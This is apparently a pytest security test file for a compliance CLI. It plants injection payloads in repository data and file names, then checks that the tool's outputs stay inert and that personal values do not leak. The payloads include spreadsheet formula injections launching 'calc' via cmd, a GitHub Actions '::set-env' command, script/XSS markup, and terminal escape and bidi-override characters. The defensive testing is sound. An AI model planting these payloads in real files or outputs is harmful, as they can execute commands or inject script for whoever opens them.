"""What a repository says never becomes a command: to a terminal, a spreadsheet, a build server or a browser."""

from __future__ import annotations

import json
import os
import re
import shutil
import zipfile
from itertools import cycle
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from openpyxl.worksheet.formula import ArrayFormula

from secops_cli.deliver.packing import unpack
from tests.assess.filing_repository import FULL
from tests.conftest import Repository
from tests.hostile.conftest import DAY, Make, Secops

ESCAPES = r"\e]0;x\a\e[2J\x9b31m\u202e\u2066\u200b\r\b"
"""As YAML spells them: a terminal's title, clear screen, colour, turned writing, no width, back to the line's start."""
PAYLOADS = {
    "formula": '=HYPERLINK(\\"http://127.0.0.1:1/?\\"&A1,\\"x\\")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\\t=1+1",
    "workflow": "x\\n::error file=a::planted\\n::set-env name=PATH::/tmp",
    "markup": "</a><script>alert(1)</script>]]>&lt;<!-- ![x](http://127.0.0.1:1/) | <img src=x>",
    "escapes": f"{ESCAPES}甲",
}
_TURNING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
_TURNING_SERVICES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_NAMED = re.compile(
    r"^(\s*(?:- |- \{)?(?:[^#\n]*[{,] ?)?(?:name|title|summary|note|client|overview): )([^\s'\"{[&|>][^,}\n#]*)", re.M
)


@pytest.fixture(params=["in turn", *(PAYLOADS if "SECOPS_ENDURANCE" in os.environ else ())])
def talking(victim: Repository, request: pytest.FixtureRequest) -> Repository:
    """The sample, whose names, titles and remarks all begin with what is to be acted on, and so do some file names.

    One payload after the other; where time does not matter, also one of them everywhere.
    """
    payloads = cycle([PAYLOADS[request.param]] if request.param in PAYLOADS else PAYLOADS.values())
    planted = 0

    def plant(found: re.Match[str]) -> str:
        nonlocal planted
        planted += 1
        return f'{found[1]}"{next(payloads)}{found[2].strip()}"'

    for path in sorted(victim.root.rglob("*.yaml")):
        if path.name != "secops.yaml":
            path.write_text(_NAMED.sub(plant, path.read_text("utf-8")), "utf-8")
    assert planted > 20 * len(PAYLOADS)
    (victim.root / "evidence/\u202efdp.exe\x1b[2J.pdf").write_text("x")
    (victim.root / "evidence/=cmd\n::error::x.pdf").write_text("x")
    (victim.root / "people/\u202e坏\x1b[31m.yaml").write_text("- {id: [}\n")
    return victim


def test_no_text_output_acts_on_a_terminal(talking: Repository, secops: Secops) -> None:
    root = talking.root
    for words in (
        ["validate", root],
        ["grade", root, "--no-fail"],
        ["gap", root],
        ["lifecycle", "-C", root],
        ["change", "-C", root, "HEAD~1"],
        ["due", root],
        ["evidence", "verify", root],
        ["evidence", "list", root],
        ["validate", root, "--format", "github"],
        ["validate", root, "--format", "junit"],
        ["validate", root, "--format", "sarif"],
        ["validate", root, "--format", "gitlab"],
        ["validate", root, "--format", "json"],
    ):
        code, out, err = secops(*words)
        assert code in (0, 1), err
        # Services show what stands between zero-width characters; only a terminal's reader could be misled by them.
        acting = _TURNING_SERVICES if words[-1] in ("github", "junit") else _TURNING
        found = acting.search(out.replace("\n", "") + err.replace("\n", ""))
        assert found is None, (words, repr(found))
        match words[-1]:
            case "github":
                commands = [line for line in out.splitlines() if line.startswith("::")]
                assert all(re.match(r"::(error|warning|notice)( |::)", line) for line in commands)
                assert not any(line.startswith(("::error file=a::", "::set-env")) for line in commands)
            case "junit":
                assert ElementTree.fromstring(out).tag in ("testsuites", "testsuite")
            case "sarif" | "gitlab" | "json":
                json.loads(out)


def test_no_office_file_holds_a_formula_or_turns_its_text(talking: Repository, secops: Secops, tmp_path: Path) -> None:
    root, out = talking.root, tmp_path / "out"
    day = ["--as-of", DAY]
    for words in (
        ["report", "self-assessment", root, "--form", "isccc", *day, "-o", out / "forms"],
        ["report", "evidence-index", root, *day, "-o", out / "index"],
        ["evidence", "pack", root, "--list-only", *day, "-o", out / "pack"],
        ["sheet", "export", "-C", root, "-o", out / "sheet.xlsx"],
    ):
        code, _, err = secops(*words)
        assert code in (0, 1), err
    files = [path for path in out.rglob("*") if path.suffix in (".xlsx", ".docx")]
    assert len(files) >= 5
    for path in files:
        assert not _TURNING.search(path.name)
        for name, part in unpack(path.read_bytes(), 1_000_000_000).items():
            if name.endswith((".xml", ".rels")):
                text = part.decode()
                assert "script>alert" not in text.replace("&lt;script&gt;", "")
                assert not name.endswith(".rels") or "127.0.0.1" not in text, (path, name)
                assert not re.search("[\u202a-\u202e\u2066-\u2069\x1b\x9b]", text), (path, name)
        if path.suffix == ".xlsx":
            _no_planted_formula(path)


def _no_planted_formula(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                planted = isinstance(cell.value, ArrayFormula) or (
                    cell.data_type == "f" and any(word in str(cell.value) for word in ("cmd", 'HYPERLINK("http', "1+1"))
                )
                assert not planted, (path, sheet.title, cell.coordinate)
                assert cell.hyperlink is None or "127.0.0.1" not in str(cell.hyperlink.target)


# --- secrets ------------------------------------------------------------------------------------------------------

MOBILE, IDENTITY = "13800138000", "11010519491231002X"


def test_personal_values_are_in_no_output_cache_or_other_file(
    repo: Make, secops: Secops, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.deliver.blank_forms import filing_2025

    cache = tmp_path / "cache"
    monkeypatch.setenv("SECOPS_CACHE", str(cache))
    private = f'department_contact: {{mobile: "{MOBILE}"}}\nmanagers:\n  s: {{name: 周某, identity: "{IDENTITY}"}}\n'
    victim = repo(FULL | {"private.yaml": private, ".gitignore": "private.yaml\n"})
    victim.commit()
    victim.write({"people/leak.yaml": f"- {{id: z, name: 泄露{IDENTITY}, note: 电话 {MOBILE}}}\n"})
    blank = tmp_path / "blank.docx"
    blank.write_bytes(filing_2025())
    broken = tmp_path / "broken.yaml"
    broken.write_text(f'department_contact: {{mobile: "{MOBILE}", nope: "{IDENTITY}"}}\n', "utf-8")
    said = ""
    for words in (
        ["validate", victim.root],
        ["validate", victim.root, "--format", "json"],
        ["validate", victim.root, "--format", "sarif"],
        ["grade", victim.root, "--no-fail"],
        ["form", "inspect", blank, "-C", victim.root],
        ["form", "inspect", blank, "-C", victim.root, "--format", "json"],
        ["form", "inspect", blank, "-C", victim.root, "--private", broken],
        ["form", "fill", blank, "-C", victim.root, "-o", tmp_path / "filled.docx"],
        ["evidence", "pack", victim.root, "--list-only", "-o", tmp_path / "pack"],
        ["sheet", "export", "evidence", "-C", victim.root, "-o", tmp_path / "pack/a.xlsx", "--force"],
    ):
        said += "".join(str(part) for part in secops(*words))
    assert MOBILE not in said and IDENTITY not in said
    made = [path for path in (tmp_path / "pack").rglob("*") if path.is_file()]
    for path in made:
        parts = unpack(path.read_bytes()).values() if zipfile.is_zipfile(path) else [path.read_bytes()]
        assert not any(word.encode() in part for part in parts for word in (MOBILE, IDENTITY)), path
    assert MOBILE.encode() in b"".join(unpack((tmp_path / "filled.docx").read_bytes()).values())
    (victim.root / "people/leak.yaml").unlink()
    shutil.rmtree(cache)
    secops("form", "fill", blank, "-C", victim.root, "-o", tmp_path / "again.docx")
    secops("validate", victim.root)
    kept = b"".join(path.read_bytes() for path in cache.rglob("*") if path.is_file())
    assert kept and MOBILE.encode() not in kept and IDENTITY.encode() not in kept
